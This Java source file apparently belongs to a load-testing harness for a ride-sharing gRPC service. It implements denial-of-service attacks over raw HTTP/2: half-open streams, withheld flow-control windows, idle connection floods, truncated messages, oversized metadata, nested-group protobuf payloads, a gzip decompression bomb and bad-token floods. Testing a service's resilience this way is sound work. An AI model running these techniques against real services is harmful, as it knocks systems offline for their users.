package com.minhacarona.load.attack;

import com.minhacarona.load.SlowStore;
import com.minhacarona.v1.CaronaServiceGrpc;
import com.minhacarona.v1.CaronaUpdateRequest;
import com.minhacarona.v1.CaronaUpdateRequest.Assinar;
import com.minhacarona.v1.ListCaronasRequest;
import com.minhacarona.v1.ReservaServiceGrpc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import java.util.zip.GZIPOutputStream;

/** Attacks by calls, each of which could be an honest one. */
final class CallAttacks {
  /** The condominium that has many rides; the target's owner puts them there. */
  static final String CROWDED = "crowded";

  private static final String BOOKING =
      ReservaServiceGrpc.getProcessarReservaMethod().getFullMethodName();
  private static final String LIST =
      CaronaServiceGrpc.getListCaronasDisponiveisMethod().getFullMethodName();
  private static final String CHECK = CaronaServiceGrpc.getCheckVagasMethod().getFullMethodName();
  private static final String UPDATES =
      CaronaServiceGrpc.getStreamCaronasUpdatesMethod().getFullMethodName();

  /** Calls that a connection may have. */
  private static final int STREAMS = 1_000;

  private static final int HALF_OPEN = 520;
  private static final int SILENT_STREAMS = 400;
  private static final int KNOWN_RIDES = 1_450;
  private static final int CALLS_BEFORE_RECONNECT = 400;
  private static final int IDLE_CONNECTIONS = 3_000;
  private static final int UNFINISHED_CONNECTIONS = 6;

  /** Six thousand of them stay under the bytes that an attack may send. */
  private static final int UNFINISHED_BYTES = 10_000;

  private static final int DECLARED_BYTES = 65_000;
  private static final int LISTS = 400;
  private static final int METADATA_BYTES = 7_000;

  /** As long as a stream's first window lets through at once. */
  private static final int LONGEST_MESSAGE = 65_000;

  private static final int START_GROUP = 0x0b;
  private static final int COMPRESSED = 1;
  private static final int BOMB_BYTES = 10 << 20;

  static void halfOpenCalls(Attacker attacker) {
    once(attacker, RawHttp2.FIRST_WINDOW, connection -> halfOpen(connection, BOOKING, HALF_OPEN));
    attacker.hold();
  }

  static void answersNeverLetThrough(Attacker attacker) {
    once(
        attacker,
        0,
        connection -> {
          for (int i = 0; i < STREAMS; i++) {
            connection.call(HeaderBlock.call(BOOKING), SlowStore.booking().toByteArray());
          }
        });
    attacker.hold();
  }

  static void halfOpenStreams(Attacker attacker) {
    for (int i = 0; i < UNFINISHED_CONNECTIONS; i++) {
      once(attacker, RawHttp2.FIRST_WINDOW, connection -> halfOpen(connection, UPDATES, STREAMS));
    }
    attacker.hold();
  }

  static void silentUpdateStreams(Attacker attacker) {
    byte[] follow = message(Assinar.newBuilder().setCondominioId(CROWDED));
    once(
        attacker,
        0,
        connection -> {
          for (int i = 0; i < SILENT_STREAMS; i++) {
            int stream = connection.headers(HeaderBlock.call(UPDATES), RawHttp2.NONE);
            connection.data(stream, RawHttp2.framed(0, follow.length, follow), RawHttp2.NONE);
          }
        });
    attacker.hold();
  }

  static void claimedVersions(Attacker attacker) {
    Assinar.Builder claim = Assinar.newBuilder().setCondominioId(CROWDED);
    for (int i = 0; i < KNOWN_RIDES; i++) {
      claim.putVersoesConhecidas(UUID.randomUUID().toString(), 1);
    }
    byte[] message = message(claim);
    byte[] framed = RawHttp2.framed(0, message.length, message);
    attacker.flood(connection -> {
      while (true) {
        int stream = connection.headers(HeaderBlock.call(UPDATES), RawHttp2.NONE);
        connection.data(stream, framed, RawHttp2.NONE);
      }
    });
  }

  static void callsWithoutDeadline(Attacker attacker) {
    attacker.flood(connection -> {
      for (int i = 0; i < CALLS_BEFORE_RECONNECT; i++) {
        connection.reset(
            connection.call(HeaderBlock.call(BOOKING), SlowStore.booking().toByteArray()));
      }
      connection.flush();
    });
  }

  static void idleConnections(Attacker attacker) {
    for (int i = 0; i < IDLE_CONNECTIONS; i++) {
      once(attacker, RawHttp2.FIRST_WINDOW, _ -> {});
    }
    attacker.hold();
  }

  static void unfinishedMessages(Attacker attacker) {
    byte[] part = RawHttp2.framed(0, DECLARED_BYTES, new byte[UNFINISHED_BYTES]);
    List<Thread> threads = new ArrayList<>();
    for (int i = 0; i < UNFINISHED_CONNECTIONS; i++) {
      threads.add(
          Thread.ofVirtual()
              .start(() ->
                  once(
                      attacker,
                      RawHttp2.FIRST_WINDOW,
                      connection -> {
                        for (int stream = 0; stream < STREAMS; stream++) {
                          connection.data(
                              connection.headers(HeaderBlock.call(BOOKING), RawHttp2.NONE),
                              part,
                              RawHttp2.NONE);
                        }
                      })));
    }
    attacker.hold();
    threads.forEach(Thread::interrupt);
  }

  static void listsOfEverything(Attacker attacker) {
    byte[] all = ListCaronasRequest.getDefaultInstance().toByteArray();
    once(
        attacker,
        RawHttp2.FIRST_WINDOW,
        connection -> {
          connection.windowUpdate(0, Integer.MAX_VALUE - RawHttp2.FIRST_WINDOW);
          for (int i = 0; i < LISTS; i++) {
            connection.call(HeaderBlock.call(LIST), all);
          }
        });
    attacker.hold();
  }

  static void largeMetadata(Attacker attacker) {
    String text = "x".repeat(METADATA_BYTES);
    attacker.flood(connection -> {
      while (true) {
        connection.call(
            HeaderBlock.call(BOOKING).with("x-text", text), SlowStore.booking().toByteArray());
      }
    });
  }

  static void unusualMessages(Attacker attacker) throws IOException {
    byte[] nested = new byte[LONGEST_MESSAGE];
    Arrays.fill(nested, (byte) START_GROUP);
    ByteArrayOutputStream zipped = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(zipped)) {
      gzip.write(new byte[BOMB_BYTES]);
    }
    byte[] bomb = RawHttp2.framed(COMPRESSED, zipped.size(), zipped.toByteArray());
    byte[] huge = RawHttp2.framed(0, Integer.MAX_VALUE, new byte[0]);
    attacker.flood(connection -> {
      while (true) {
        connection.call(HeaderBlock.call(BOOKING), nested);
        HeaderBlock compressed = HeaderBlock.call(BOOKING).with("grpc-encoding", "gzip");
        connection.data(connection.headers(compressed, RawHttp2.NONE), bomb, RawHttp2.END_STREAM);
        connection.data(
            connection.headers(HeaderBlock.call(BOOKING), RawHttp2.NONE), huge, RawHttp2.NONE);
      }
    });
  }

  /** The calls end with their headers, since they are refused for these. */
  static void badTokens(Attacker attacker) {
    attacker.flood(connection -> {
      while (true) {
        badToken(attacker, connection);
      }
    });
  }

  static void badToken(Attacker attacker, RawHttp2 connection) throws IOException {
    connection.headers(
        HeaderBlock.call(CHECK).with("authorization", "Bearer " + attacker.badToken()),
        RawHttp2.END_STREAM);
  }

  private static void halfOpen(RawHttp2 connection, String method, int calls) throws IOException {
    for (int i = 0; i < calls; i++) {
      connection.headers(HeaderBlock.call(method), RawHttp2.NONE);
    }
  }

  /** Does something on a connection that then stays open. */
  private static void once(Attacker attacker, int streamWindow, Attacker.Step step) {
    try {
      RawHttp2 connection = attacker.connect(streamWindow);
      step.on(connection);
      connection.flush();
    } catch (IOException _) {
      // It was cut off, or has done all that it may.
    }
  }

  private static byte[] message(Assinar.Builder follow) {
    return CaronaUpdateRequest.newBuilder()
        .setComandoId("c")
        .setAssinar(follow)
        .build()
        .toByteArray();
  }

  private CallAttacks() {}
}
